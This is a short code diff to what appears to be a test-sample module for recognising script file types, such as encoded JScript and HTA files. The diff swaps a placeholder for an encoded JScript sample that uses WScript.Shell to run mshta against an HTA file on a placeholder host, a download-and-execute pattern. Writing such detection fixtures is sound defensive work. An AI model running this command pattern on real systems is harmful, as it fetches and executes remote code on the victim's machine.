@@ -1,4 +1,5 @@
 import { deflateRawSync, gzipSync } from 'node:zlib'
+import { encodeScript } from '../formats/encoded-script.ts'
 import { type Sample, sample, word } from './sample.ts'
 
 const host = 'http://files.example.invalid'
@@ -131,7 +132,9 @@ export const scriptSamples = (): Sample[] => [
     'encoded.jse',
     'the script encoder',
     'script.jscript-encoded',
-    `#@~^CAAAAA==${'x'.repeat(40)}^#~@`,
+    encodeScript(
+      `var s = new ActiveXObject("WScript.Shell");\r\ns.Run("mshta ${host}/a.hta");\r\n`,
+    ),
   ),
   sample(
     'invoice.hta',
